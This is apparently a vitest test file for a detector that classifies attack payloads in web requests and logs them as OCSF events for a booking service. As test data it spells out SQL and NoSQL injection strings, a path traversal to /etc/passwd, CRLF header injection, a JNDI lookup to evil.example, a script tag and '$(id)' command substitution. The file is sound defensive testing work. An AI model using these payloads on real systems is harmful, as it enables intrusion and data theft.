import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { noStandards, ocsfEventCheck, standardFolder } from '../standards.test-helper.ts'
import { familyOf } from './family-of.ts'
import { payloadFamilies, type PayloadFamily } from './family.ts'
import { payloadsInAddress, payloadsInBody, payloadsInHeaders } from './find-payloads.ts'
import { payloadEvent } from './payload-event.ts'

interface Attack {
  family: PayloadFamily
  text: string
}

const linesOf = (name: string): unknown[] =>
  readFileSync(join(import.meta.dirname, 'corpus', name), 'utf8')
    .trimEnd()
    .split('\n')
    .map((line): unknown => JSON.parse(line))
const attacks = linesOf('attacks.jsonl') as Attack[]
const honest = linesOf('honest.jsonl') as string[]

/** Characters and words of which people make names, notes and addresses. */
const words = fc.constantFrom(
  ...`O'Brien|Select|drop|the|fade;|Union Station|and|or|#2|5'|11"|<3|$20|20%|C&A;|cut|--|1=1 style|2|&|/|(|)|!|?|:)|;)|like`.split(
    '|',
  ),
  ...`López|Łukasz|李小龙|Иван|محمد|💈|✂️|table|from|where|update|delete|don't|"usual"|style|curl|sort|cat|wash|10:30|@marco`.split(
    '|',
  ),
)

describe('the corpus', () => {
  test('is large, and has no text twice', () => {
    expect(attacks.length).toBeGreaterThanOrEqual(150)
    expect(honest.length).toBeGreaterThanOrEqual(300)
    expect(new Set(attacks.map(({ text }) => text)).size).toBe(attacks.length)
    expect(new Set(honest).size).toBe(honest.length)
  })

  test.each(attacks)('$family: $text', ({ family, text }) => {
    expect(familyOf(text)).toBe(family)
  })

  test.each(honest)('honest: %s', (text) => {
    expect(familyOf(text)).toBeNull()
    // A browser sends it encoded, a form with plus signs.
    expect(familyOf(encodeURIComponent(text))).toBeNull()
    expect(familyOf(`${text}. See you!`)).toBeNull()
  })

  test('is found in sentences, in any case, and however often it is encoded', () => {
    const twice = attacks.filter(({ text }) => !text.includes('%') && !text.includes('\0'))
    const missed = twice.filter(({ text }) => familyOf(encodeURIComponent(encodeURIComponent(text))) === null)
    expect(missed).toEqual([])
    expect(attacks.filter(({ text }) => familyOf(text.toUpperCase()) === null)).toEqual([])
  })
})

describe('what people write', () => {
  test('is never hostile, whatever they put together', () => {
    fc.assert(
      fc.property(fc.array(words, { maxLength: 12 }), (parts) => {
        expect(familyOf(parts.join(' '))).toBeNull()
      }),
      // A seed of its own: over 800,000 sentences of such words, about ten did look like SQL (README.md).
      { numRuns: 5_000, seed: 20_261_127 },
    )
  })

  test('is never hostile in letters, digits and the punctuation of sentences', () => {
    const alphabet = fc.constantFrom(
      ...'abcdefghijklmnopqrstuvwxyzABCXYZäöüßéñ 0123456789.,:!?-()+@/&€'.split(''),
    )
    fc.assert(
      fc.property(fc.string({ unit: alphabet, maxLength: 60 }), (text) => {
        expect(familyOf(text)).toBeNull()
      }),
      { numRuns: 5_000, seed: 20_261_127 },
    )
  })

  test('never throws, whatever it is', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (text) => {
        const family = familyOf(text)
        expect(family === null || family in payloadFamilies).toBe(true)
      }),
      { numRuns: 3_000 },
    )
  })
})

describe('in a request', () => {
  test('it is found in any part of an address, and named by its place', () => {
    expect(payloadsInAddress("/clients?q=x'%20OR%201=1--&limit=10")).toMatchObject([
      { family: 'sql_injection', place: 'query', field: 'q' },
    ])
    expect(payloadsInAddress('/bookings/1%20or%201=1--')).toMatchObject([
      { family: 'sql_injection', place: 'path' },
    ])
    expect(payloadsInAddress('/assets/%2e%2e/%2e%2e/etc/passwd')).toMatchObject([
      { family: 'path_traversal', place: 'path' },
    ])
    expect(payloadsInAddress('/bookings?email[$ne]=x')).toMatchObject([
      { family: 'nosql_injection', field: 'other' },
    ])
    expect(payloadsInAddress('/shop?shop=x%0d%0aSet-Cookie:%20a=b')).toMatchObject([
      { family: 'header_injection' },
    ])
    expect(payloadsInAddress("/clients?q=O'Brien&limit=10&sort=-name")).toEqual([])
    expect(payloadsInAddress('/guest-bookings/abc.def_ghi-jkl/calendar.ics')).toEqual([])
  })

  test('it is found in headers that are no secrets', () => {
    expect(payloadsInHeaders({ 'user-agent': '${jndi:ldap://evil.example/a}' })).toMatchObject([
      { family: 'template_injection', place: 'header', field: 'user-agent' },
    ])
    expect(
      payloadsInHeaders({ authorization: "' or 1=1--", cookie: "a=' or 1=1--", 'x-api-key': "' or 1=1--" }),
    ).toEqual([])
  })

  test('it is found at any depth of a body, in names too, but not in secrets', () => {
    expect(payloadsInBody({ client: { name: "Robert'); DROP TABLE students;--" } })).toMatchObject([
      { family: 'sql_injection', place: 'body', field: 'client/name' },
    ])
    expect(payloadsInBody([{ a: [{ note: '<script>alert(1)</script>' }] }])).toMatchObject([
      { field: 'a/note' },
    ])
    expect(payloadsInBody({ email: { $gt: '' } })).toMatchObject([
      { family: 'nosql_injection', field: 'other' },
    ])
    expect(payloadsInBody({ password: "' or 1=1--", new_password: '$(id)' })).toEqual([])
    expect(payloadsInBody({ name: "O'Brien-Select", note: 'drop the fade; select #2' })).toEqual([])
    expect(payloadsInBody(null)).toEqual([])
  })

  test('many are some', () => {
    const many = Object.fromEntries(Array.from({ length: 100 }, (_, n) => [`field_${n}`, `' or ${n}=${n}--`]))
    expect(payloadsInBody(many)).toHaveLength(5)
  })

  test('a body as deep as its bytes allow is looked at without recursion', () => {
    const deep: unknown = JSON.parse(`${'['.repeat(30_000)}"' or 1=1--"${']'.repeat(30_000)}`)
    expect(payloadsInBody(deep)).toMatchObject([{ family: 'sql_injection' }])
  })
})

test('an event tells of it without repeating it, and is valid OCSF', (context) => {
  const [payload] = payloadsInBody({ note: "x'; DROP TABLE account--" })
  const draft = payloadEvent(
    payload!,
    {
      source: '203.0.113.5',
      method: 'POST',
      route: '/bookings',
      requestId: '01a20000-0000-7000-8000-000000000001',
      fingerprint: '0123456789abcdef',
      actor: { actor: { user: { uid: 'anonymous' } } },
      isRefused: false,
    },
    Buffer.alloc(32, 1),
  )
  expect(JSON.stringify(draft)).not.toContain('DROP')
  expect(draft.attributes['unmapped']).toMatchObject({ place: 'body', field: 'note', length: 24 })
  const folder = standardFolder('ocsf')
  if (folder === undefined) return context.skip(noStandards)
  expect(
    ocsfEventCheck(folder)({
      ...draft.attributes,
      metadata: {
        version: '1.8.0',
        profiles: draft.profiles,
        product: { name: '6FB Booking', vendor_name: '6FB' },
      },
      time: 1_795_510_800_000,
      class_uid: 4002,
      category_uid: 4,
      activity_id: 99,
      type_uid: 400_299,
      severity_id: 2,
    }),
  ).toEqual([])
})
